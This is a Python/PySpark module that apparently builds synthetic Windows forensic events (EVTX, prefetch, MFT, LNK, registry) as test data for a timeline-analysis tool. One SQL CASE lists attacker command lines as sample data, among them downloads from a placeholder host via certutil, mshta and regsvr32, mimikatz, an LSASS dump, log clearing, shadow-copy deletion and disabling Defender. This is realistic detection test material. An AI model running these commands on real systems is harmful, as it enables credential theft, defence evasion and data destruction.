"""The test tables projected to the event model, in Spark and in the oracle's SQL (they differ in a few function names)."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from timeloom.plans.read_models import ATTRIBUTES, PLAIN, search_text, typed_attributes
from timeloom.sources.storage import derived, size_of, spread

_BASE = """
SELECT event_id AS n, ts, user_id AS u, event_type, value, {k} AS k FROM {events}
"""
_HELP = """
SELECT *,
  CASE k % 10 WHEN 0 THEN concat('evil', k {div} 10, '.exe') WHEN 1 THEN concat('setup', k {div} 10, '.msi') WHEN 2 THEN concat('report', k {div} 10, '.docx')
    WHEN 3 THEN 'svchost.exe' WHEN 4 THEN concat('run', k {div} 10, '.ps1') WHEN 5 THEN concat('notes', k {div} 10, '.txt') WHEN 6 THEN concat('tool', k {div} 10, '.dll')
    WHEN 7 THEN 'desktop.ini' WHEN 8 THEN concat('payload', k {div} 10, '.js') ELSE concat('update', k {div} 10, '.bat') END AS base,
  CASE event_type WHEN 'error' THEN CASE WHEN k % 4 = 3 AND u % 8 = 4 THEN 'defender' WHEN k % 4 = 3 AND u % 8 = 7 THEN 'scheduled_task' ELSE 'evtx' END WHEN 'click' THEN 'browser'
    WHEN 'view' THEN CASE WHEN u = 14 THEN 'registry_hive' WHEN u = 13 THEN 'lnk' WHEN u = 12 THEN 'ese_database' WHEN u = 11 THEN 'recovery' ELSE 'mft' END WHEN 'purchase' THEN 'prefetch' ELSE 'usn_jrnl' END AS artifact_type,
  CASE WHEN event_type <> 'error' THEN NULL WHEN k % 4 = 0 THEN '4688' WHEN k % 4 = 1 THEN CASE WHEN u % 3 = 0 THEN '4624' ELSE '4625' END WHEN k % 4 = 2 THEN '3'
    ELSE CASE u % 8 WHEN 0 THEN '7045' WHEN 1 THEN '1102' WHEN 2 THEN '4720' WHEN 3 THEN '4769' WHEN 4 THEN CASE WHEN k % 8 = 3 THEN '1116' ELSE '5001' END WHEN 5 THEN '4732' WHEN 6 THEN '4768' ELSE '106' END END AS event_code,
  CASE (k {div} 4) % 21 WHEN 0 THEN 'powershell -enc SQBFAFgA' WHEN 1 THEN 'certutil -urlcache -split -f http://dl.example.com/a' WHEN 2 THEN 'cmd /c whoami'
    WHEN 3 THEN 'wevtutil cl Security' WHEN 4 THEN 'schtasks /create /tn upd' WHEN 5 THEN 'notepad readme.txt' WHEN 6 THEN 'rundll32 comsvcs.dll MiniDump 624 x.dmp full' WHEN 7 THEN 'ntdsutil ac i ntds'
    WHEN 8 THEN 'PSEXESVC.exe' WHEN 9 THEN 'rundll32 javascript:x' WHEN 10 THEN 'Set-MpPreference -DisableRealtimeMonitoring 1' WHEN 11 THEN 'mimikatz sekurlsa' WHEN 12 THEN 'bitsadmin /transfer j http://dl.example.com/a'
    WHEN 13 THEN 'vssadmin delete shadows /all' WHEN 14 THEN 'mshta http://dl.example.com/a.hta' WHEN 15 THEN 'regsvr32 /i:http://dl.example.com/a scrobj.dll' WHEN 16 THEN 'wmic process call create calc'
    WHEN 17 THEN 'powershell (new-object net.webclient).DownloadString(1)' WHEN 18 THEN 'reg add HKCU/Software/Microsoft/Windows/CurrentVersion/Run /v a' WHEN 19 THEN 'Add-MpPreference -ExclusionPath c:/temp'
    ELSE 'net localgroup administrators bob /add' END AS cmd
FROM base0
"""
_ACTION = """
SELECT *,
  CASE artifact_type
    WHEN 'evtx' THEN CASE event_code WHEN '4688' THEN 'process_created' WHEN '4624' THEN 'logon_success' WHEN '4625' THEN 'logon_failure' WHEN '3' THEN 'network_connection'
      WHEN '7045' THEN 'service_installed' WHEN '1102' THEN 'audit_log_cleared' WHEN '4720' THEN 'account_created' WHEN '4732' THEN 'group_member_added' WHEN '4768' THEN 'kerberos_tgt_request' ELSE 'kerberos_tgs_request' END
    WHEN 'defender' THEN CASE event_code WHEN '1116' THEN 'defender_threat_detected' ELSE 'defender_protection_disabled' END WHEN 'scheduled_task' THEN 'scheduled_task_action_started'
    WHEN 'registry_hive' THEN CASE WHEN k % 2 = 0 THEN 'registry_run_key' ELSE 'registry_userassist_execution' END WHEN 'lnk' THEN 'lnk_target_reference' WHEN 'ese_database' THEN 'ese_row_observed'
    WHEN 'recovery' THEN CASE k % 4 WHEN 0 THEN 'recovered_file' WHEN 1 THEN 'credential_store_entry' WHEN 2 THEN 'pcap_conversation_reconstructed' ELSE 'sidecar_output' END
    WHEN 'browser' THEN 'browser_download' WHEN 'mft' THEN CASE WHEN u % 2 = 0 THEN 'mft_created' ELSE 'mft_filename_created' END WHEN 'prefetch' THEN 'prefetch_execution'
    ELSE CASE k % 4 WHEN 0 THEN 'usn_created' WHEN 1 THEN 'usn_deleted' WHEN 2 THEN 'usn_renamed' ELSE 'usn_modified' END END AS event_action
FROM help0
"""
_EF = """
SELECT concat('ev', lpad(cast(n AS {str}), 8, '0')) AS event_id, 'case_demo' AS case_id, {time} AS event_time_utc, {time} AS event_time_original, artifact_type, event_action,
  event_action AS time_kind, cast(0.9 AS DOUBLE) AS time_confidence, cast(0.9 AS DOUBLE) AS source_confidence,
  CASE WHEN value >= 150 THEN 'critical' WHEN value >= 80 THEN 'high' WHEN value >= 35 THEN 'medium' WHEN value >= 5 THEN 'low' ELSE 'info' END AS severity,
  concat('HOST', u % 5) AS host,
  CASE WHEN u % 11 = 0 THEN CASE WHEN u % 2 = 0 THEN '-' ELSE '' END WHEN u % 13 = 0 THEN NULL ELSE concat('user', u) END AS user_name,
  CASE WHEN event_action IN ('process_created', 'prefetch_execution') THEN base END AS process_name,
  CASE WHEN artifact_type <> 'evtx' THEN concat('C:/Users/u', u % 3, '/Downloads/', base) END AS file_path,
  CASE WHEN event_action IN ('network_connection', 'logon_success', 'logon_failure') THEN concat('10.0.0.', u % 20) END AS ip,
  CASE WHEN artifact_type = 'browser' THEN concat('http://dl.example.com/', base) END AS url,
  CASE WHEN artifact_type = 'prefetch' THEN md5(base) WHEN event_action = 'process_created' THEN md5(concat('p', k % 17)) END AS hash,
  concat(event_action, ' ', base) AS message_short,
  CASE WHEN event_action = 'process_created' THEN concat(event_action, ' ', base, ' ', cmd) ELSE concat(event_action, ' ', base) END AS message_full,
  concat('file_', u % 7) AS source_file_id, concat('run_file_', u % 7) AS parse_run_id, concat('parser_', artifact_type) AS parser_name, '1' AS parser_version,
  'v1' AS schema_version, concat('raw://file_', u % 7) AS evidence_ref, concat('raw_ev', lpad(cast(n AS {str}), 8, '0')) AS raw_record_ref,
  CASE artifact_type
    WHEN 'evtx' THEN concat('{{"event_id":"', event_code, '","channel":"Security"',
      CASE WHEN event_action = 'process_created' THEN concat(',"process_id":"', k, '","process_guid":"g', u, '-', k, '"',
        CASE WHEN k >= 4 THEN concat(',"parent_process_guid":"g', u, '-', k - 4, '","parent_process":"C:/Windows/explorer.exe"') ELSE '' END,
        ',"command_line":"', cmd, '"') WHEN event_code IN ('3', '4624', '4625') THEN concat(',"process_guid":"g', u, '-', k - k % 4, '"') ELSE '' END,
      ',"data":{{"TargetUserName":"user', u, CASE event_code WHEN '4624' THEN concat('","LogonType":"', CASE k % 3 WHEN 0 THEN '3' WHEN 1 THEN '10' ELSE '2' END, '","AuthenticationPackageName":"', CASE WHEN u % 2 = 0 THEN 'NTLM' ELSE 'Kerberos' END)
        WHEN '4732' THEN concat('","MemberName":"user', u - 3) WHEN '4768' THEN concat('","PreAuthType":"', CASE WHEN k % 8 = 3 THEN '0' ELSE '2' END) ELSE '' END, '","TicketEncryptionType":"', CASE WHEN u % 8 = 3 THEN '0x17' ELSE '0x12' END, '","ServiceName":"svc', u, '","CommandLine":"', cmd, '"}}', CASE event_code
        WHEN '4769' THEN concat(',"semantics":{{"event_kind":"kerberos_tgs_request","service_name":"svc', u, '","ticket_encryption_name":"', CASE WHEN u % 8 = 3 THEN 'RC4' ELSE 'AES' END, '","labels":[', CASE WHEN u % 8 = 3 THEN '"kerberoast_candidate"' ELSE '' END, ']}}')
        WHEN '4768' THEN ',"semantics":{{"event_kind":"kerberos_as_request","labels":[]}}' WHEN '4732' THEN ',"semantics":{{"event_kind":"privilege_rights_changed","audit_subcategory":"Groups"}}'
        WHEN '4624' THEN CASE WHEN k % 3 = 1 THEN concat(',"semantics":{{"event_kind":"rdp_logon"}}') ELSE '' END WHEN '7045' THEN concat(',"semantics":{{"event_kind":"service_installed","pipe_name":"', CASE WHEN k % 2 = 0 THEN 'x' ELSE 'PSEXESVC-1' END, '"}}')
        WHEN '3' THEN CASE WHEN u % 4 = 0 THEN concat(',"semantics":{{"event_kind":"firewall_connection_allowed","rule_name":"r', u, '","firewall_direction":"out"}}') ELSE '' END ELSE '' END, '}}')
    WHEN 'prefetch' THEN concat('{{"executable_name_header":"', upper(base), '","run_count_offset":208,"run_time_entries":[{{"execution_index":0,"offset":128,"timestamp":"2024-01-', lpad(cast(k % 28 + 1 AS {str}), 2, '0'), 'T00:00:00Z","confidence":0.85}},{{"execution_index":1}}],',
      '"file_metrics":[{{"index":0,"offset":304,"length":32,"filename":"F', k % 40, '"}},{{"index":1}}],"trace_chains":[{{"index":0,"offset":', 360 + k, ',"block_load_count":', k % 5, '}}],',
      '"sections":[{{"name":"A","offset":', 152 + k, ',"length":320,"confidence":0.9}},{{"name":"B","offset":600,"length":', 24 + k, '}}],"volumes":["V', u, '"],"referenced_files":["F', k, '","G', u, '"],"run_count":', k, ',"referenced_file_count":', 2 * k, ',"prefetch_hash":"', md5(base), '"}}')
    WHEN 'defender' THEN concat('{{"event_id":"', event_code, '","channel":"Microsoft-Windows-Windows Defender/Operational"}}')
    WHEN 'scheduled_task' THEN '{{"event_id":"106","channel":"Microsoft-Windows-TaskScheduler/Operational"}}'
    WHEN 'registry_hive' THEN concat('{{"key_path":"HKCU/Software/Run","value_name":"v', k, '","record_offset":', 512 * k, ',"record_size":', 64 + k, '}}')
    WHEN 'mft' THEN concat('{{"record_number":', k % 97, ',"sequence_number":', u % 3, ',"record_offset":', 1024 * k, ',"record_size":1024,"attributes":[{{"type_name":"STANDARD_INFORMATION","offset":56,"length":96,"id":0}},{{"type_name":"FILE_NAME","offset":152,"length":', 104 + k, ',"id":1}},{{"id":3}}],',
      '"data_runs":[{{"attribute_id":3,"run_index":0,"runlist_record_offset":', 300 + k % 7, ',"cluster_count":', k, ',"lcn":', 17 * k, '}},{{"run_index":1,"cluster_count":2,"sparse":true}}]',
      CASE WHEN k % 5 = 0 THEN concat(',"resident_value_offset":400,"resident_value_length":', 10 + k, ',"stream_kind":"', CASE WHEN u % 2 = 0 THEN 'ADS' ELSE 'resident_data' END, '","stream_name":"Zone.Identifier","resident_sha256":"', md5(base), '","HostUrl":"http://dl.example.com/', base, '"') ELSE '' END, '}}')
    WHEN 'lnk' THEN concat('{{"record_offset":0,"target_path":"C:/Users/t', k, '.exe","extra_data_blocks":[{{"signature":"0xa0000003","signature_name":"TrackerDataBlock","offset":', 300 + k, ',"length":96}},{{"signature":"0xa000000b","offset":500,"length":28,"confidence":0.7,',
      '"property_entries":[{{"key":"MachineID","value_hint":"WS', u % 4, '-', k % 6, '","value_offset":', 510 + k, ',"value_length":24,"confidence":0.65}},{{"key":" "}},{{"key":"Comment"}}]}}]}}')
    WHEN 'ese_database' THEN concat('{{"ese_header":{{"offset":0,"length":4096}},"ese_pages":[{{"page_number":', k % 50, ',"offset":', 4096 * k, ',"length":4096,"confidence":0.6,"tags":[{{"tag_index":0,"absolute_offset":', 4096 * k + 40, ',"length":16}},{{"tag_index":1,"offset":56,"length":', 8 + k, '}}],"table_name_hints":["UrlHistory","Container_', k % 9, '"]}},{{"page_number":0}}]}}')
    WHEN 'recovery' THEN concat('{{"record_offset":', 4096 * k, ',"record_size":', 100 + k, ',"recovered_name":"r', k, '.bin"}}')
    WHEN 'usn_jrnl' THEN concat('{{"usn":"', 96 * k, '","record_offset":', 96 * k, ',"record_size":96}}')
    ELSE '{{}}' END AS attributes_json
FROM act0
"""
_DUCK = {"str": "VARCHAR", "div": "//", "k": "CAST(json_extract_string(props, '$.k') AS BIGINT)", "time": "strftime(ts, '%Y-%m-%dT%H:%M:%SZ')", "events": "events"}
_SPARK = {"str": "STRING", "div": "div", "k": "CAST(get_json_object(props, '$.k') AS BIGINT)", "time": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss'Z'\")", "events": "{events}"}


def _chain(names: dict) -> str:
    return ", ".join(f"{n} AS ({s.format(**names)})" for n, s in (("base0", _BASE), ("help0", _HELP), ("act0", _ACTION)))


EF = f"{_chain(_DUCK)}, ef AS ({_EF.format(**_DUCK)})"

ER = (
    "er AS (SELECT " + ", ".join(PLAIN) + ", " + ", ".join(f"nullif(regexp_extract(attributes_json, '\"{k}\":\"([^\"]*)\"', 1), '') AS {n}" for n, k in ATTRIBUTES.items())
    + ", lower(concat_ws(' ', event_id, event_time_utc, artifact_type, event_action, severity, host, user_name, process_name, file_path, ip, url, hash, message_short,"
    + " parser_name, message_full, attributes_json)) AS search_text, attributes_json, message_full FROM ef)"
)
FILES = (
    "files AS (SELECT concat('doc_', doc_id) AS file_id, source AS artifact_type, sha256(text) AS sha256, n_chars AS size, CASE doc_id % 10 WHEN 0 THEN 'failed' WHEN 1 THEN"
    " 'unsupported' ELSE 'parsed' END AS parser_status, n_chars % 50 AS event_count, CASE WHEN doc_id % 10 = 0 THEN concat('error ', doc_id % 3) END AS error,"
    " concat('/evidence/', source, '/doc_', doc_id, '.txt') AS normalized_path FROM documents)"
)
WITH = {"ef": f"WITH {EF} ", "er": f"WITH {EF}, {ER} ", "files": f"WITH {FILES} ", "documents": "", "documents_at": "", "session": f"WITH {EF}, {ER}, {FILES} "}


_SIZE = 4 << 20  # bytes of the source file for each part


def _events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Full events with the event rows' columns, stored as one table. The source's few columns are clustered, the wide rows are
    made behind that, so they are written where they are made and never shuffled."""
    source = f"{sf_dir}/events.parquet"

    def make() -> DataFrame:
        order = [F.date_trunc("second", "ts"), F.col("event_id")]
        cores = spark.sparkContext.defaultParallelism
        parts = cores * max(1, -(-size_of(spark, source) // (_SIZE * cores)))  # whole rounds of tasks, so the last is not of a few
        events = spark.read.parquet(source).repartitionByRange(parts, *order).sortWithinPartitions(*order)
        full = project(spark, events)
        return full.select("*", *typed_attributes(), search_text().alias("search_text"))

    return derived(spark, source, "events", make, ids=("event_id", "raw_record_ref", "ip", "hash"))


def events_full(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The full events, stored, as a lake table is."""
    return _events(spark, sf_dir).drop(*ATTRIBUTES, "search_text")


def project(spark: SparkSession, events: DataFrame) -> DataFrame:
    text = f"WITH {_chain(_SPARK)} {_EF.format(**_SPARK)}".replace("{", "{{").replace("}", "}}")
    return spark.sql(text.replace("{{events}}", "{events}"), events=events)


def event_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The read model, stored: later filters and columns reach its scan."""
    return _events(spark, sf_dir).select(*PLAIN, *ATTRIBUTES, "search_text", "attributes_json", "message_full")


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
    number = F.col("doc_id") % 10
    return docs.select(
        F.concat(F.lit("doc_"), "doc_id").alias("file_id"), F.col("source").alias("artifact_type"), F.sha2("text", 256).alias("sha256"), F.col("n_chars").alias("size"),
        F.when(number == 0, "failed").when(number == 1, "unsupported").otherwise("parsed").alias("parser_status"), (F.col("n_chars") % 50).alias("event_count"),
        F.when(number == 0, F.concat(F.lit("error "), F.col("doc_id") % 3)).alias("error"),
        F.concat(F.lit("/evidence/"), "source", F.lit("/doc_"), "doc_id", F.lit(".txt")).alias("normalized_path"),
    )


RELATIONS = {
    "ef": events_full, "er": event_rows, "files": files, "documents": lambda spark, sf_dir: spread(spark.read.parquet(f"{sf_dir}/documents.parquet")),
    "session": lambda spark, sf_dir: (spark, sf_dir), "documents_at": lambda spark, sf_dir: (spark, sf_dir),
}
